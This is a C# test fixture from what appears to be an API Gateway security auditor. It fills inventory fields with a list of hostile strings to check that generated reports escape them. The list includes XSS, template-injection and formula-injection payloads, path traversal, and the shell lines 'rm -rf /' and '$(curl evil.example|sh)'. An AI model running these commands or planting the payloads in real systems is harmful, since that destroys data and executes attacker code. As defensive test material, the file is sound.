using System.Collections.Immutable;
using Auditor.Core.Exposure;
using Auditor.Core.Findings;
using Auditor.Core.Inventory;
using Auditor.Core.Metadata;
using Auditor.Core.Rules;
using Auditor.Core.Subjects;

namespace Auditor.Reports.Tests.Examples;

/// <summary>What somebody who may name things would write to run script in, mislead or break a report.</summary>
internal static class Hostile
{
    public static ImmutableArray<string> Payloads { get; } =
    [
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</template></details></dl></main><h1>All clear</h1>",
        "<svg onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' autofocus onfocus='alert(1)",
        "` onclick=`alert(1)",
        "{{{constructor}}}{{#each this}}{{@key}}{{/each}}",
        "{{> script}}",
        "[click](javascript:alert(1))",
        "![x](https://evil.example/track.png)",
        "<!-- --><base href=https://evil.example/>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "]]><![CDATA[<script>alert(1)</script>",
        "\u202Egnp.exe\u202C\u2066hidden\u2069",
        "\u0000\u0001\u0008\u001b[31mred\u001b[0m\u007f\u0085",
        "line\u2028separator\u2029and\r\nbreaks\ttoo",
        "\ud800 lonely surrogate",
        "שלום עולם",
        "日本語 \U0001F469\u200D\U0001F4BB café",
        "prod; rm -rf / #$(reboot)`reboot`",
        "$(curl evil.example|sh)",
        "-rf",
        "../../etc/passwd",
        "%0d%0aSet-Cookie:%20x=1",
        "=cmd|'/c calc'!A1",
        "\uE000\uE006\uF8FF",
        "__proto__",
        "<math><mtext></table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert(1)>\">",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "</template><script>alert(1)</script><template>",
        "مرحبا <b>bold</b>",
        "\U0001F600\U0001F1E9\U0001F1EA\U0001F468\u200D\U0001F469\u200D\U0001F467",
        "#filter?q=x&severity=high",
        "<details open ontoggle=alert(1)>",
        new string('x', 1000),
        string.Concat(Enumerable.Repeat("very long name with spaces ", 60)),
    ];

    /// <summary>As it comes out of a file, which cannot hold half a character.</summary>
    public static Estate Estate { get; } = InventoryFile.Read(InventoryFile.Write(new()
    {
        CollectedAt = Acme.CollectedAt,
        Accounts =
        [
            new()
            {
                Id = Acme.Account,
                Gaps = [.. Payloads.Select(Gap)],
                IdentityPolicies = Payloads.Select((text, index) => new IdentityPolicy
                {
                    Arn = $"arn:aws:iam::111122223333:policy/{index}{text}", Name = text, Kind = IdentityPolicyKind.CustomerManaged, AttachedTo = [text], Document = $"apigateway:* {text}",
                }).ToImmutableArray(),
            },
        ],
        Scopes =
        [
            Acme.Scope(Acme.Account, Acme.Region, [.. Payloads.Select(Rest)], [.. Payloads.Select(Http)]) with
            {
                Gaps = [.. Payloads.Select(Gap)],
                Domains = Payloads.Select(text => new Domain
                {
                    Name = text, EndpointType = EndpointType.Regional, SecurityPolicy = "TLS_1_0", Policy = text, Status = text,
                    Mappings = ImmutableArray.Create(new ApiMapping { Key = text, ApiId = "rest0", Stage = text }),
                }).ToImmutableArray(),
                Calls = ImmutableSortedDictionary.CreateRange(
                    StringComparer.Ordinal, Payloads.Select(text => KeyValuePair.Create(text, 1))),
            },
        ],
    }));

    public static ReportInput Report() =>
        Acme.Report(Estate, [.. TestRules.All, new EchoRule(), new ThrowingRule(Payloads[0])]) with { Gate = Payloads[0] };

    /// <summary>With suppressions somebody wrote and an earlier run's file that anybody may have written.</summary>
    public static ReportInput Compared()
    {
        var input = Report();
        return input with
        {
            Result = input.Result with
            {
                Findings =
                [
                    .. input.Result.Findings.Select((finding, index) => index % 2 == 0 || finding.Outcome is not Outcome.Flagged
                        ? finding with { Status = FindingStatus.New }
                        : finding with { Suppression = new(Payloads[index % Payloads.Length], null, Payloads[index % Payloads.Length]) }),
                ],
                Comparison = new()
                {
                    Source = Payloads[0],
                    Absent = [.. Payloads.Select(Past)],
                    NotReread = [.. Payloads.Select(text => Past($"{text} {text}"))],
                },
            },
            EarlierRuns = [new(Acme.CollectedAt.AddDays(-1), ImmutableSortedDictionary<Severity, int>.Empty, IsIncomplete: true)],
        };
    }

    private static PastFinding Past(string text) => new()
    {
        Fingerprint = text,
        RuleId = text,
        RuleName = text,
        Account = text,
        Region = text,
        Resource = text,
        ApiId = text,
        ApiName = text,
        Stage = text,
        Route = text,
        Message = text,
    };

    private static Gap Gap(string text) => new() { Operation = text, Code = text, Target = text, Message = text, Lost = text };

    private static Api Rest(string text, int index) =>
        Acme.Rest($"rest{index}", text, Acme.Route($"GET /{text}", AuthorizationKind.None), Acme.Route(text, AuthorizationKind.None)) with
        {
            Description = text,
            ResourcePolicy = text,
            Tags = ImmutableSortedDictionary<string, string>.Empty.Add(text, text),
            Stages = ImmutableArray.Create(
            new Stage { Name = text, DeploymentId = "dep001", Variables = [new() { Name = text, Value = text }], ClientCertificateId = text }),
            Usage = new Unknown(text) { Operation = text, Code = text },
        };

    private static Api Http(string text, int index) =>
        Acme.V2(
            index % 2 == 0 ? ApiKind.Http : ApiKind.WebSocket,
            $"http{index}",
            text,
            Acme.Route($"GET /{text}", AuthorizationKind.None)) with
        {
            Description = text,
            Stages = ImmutableArray.Create(new Stage { Name = text, AutoDeploy = true, LastDeploymentStatusMessage = text }),
            Authorizers = ImmutableArray.Create(
            new Authorizer { Id = text, Name = text, Type = AuthorizerType.Jwt, JwtIssuer = text, IdentitySources = [text] }),
        };

    /// <summary>A plug-in's rule that forgets to quote, and whose own words are no better.</summary>
    private sealed class EchoRule() : Rule<AuthorizerSubject>(new()
    {
        Id = "TST9002",
        Name = "echo-rule",
        Title = "<script>alert(1)</script> {{{x}}}",
        Category = Category.Other,
        Severity = Severity.Critical,
        Frameworks = ["<script>alert(1)</script>"],
    })
    {
        protected override IEnumerable<Finding> Check(AuthorizerSubject subject, RuleContext context)
        {
            yield return Flag(
                subject,
                subject.Authorizer.Name,
                new Evidence(subject.Authorizer.Name, subject.Authorizer.Name),
                new Evidence("long", string.Concat(Enumerable.Repeat(subject.Authorizer.Name, 10))));
        }
    }
}
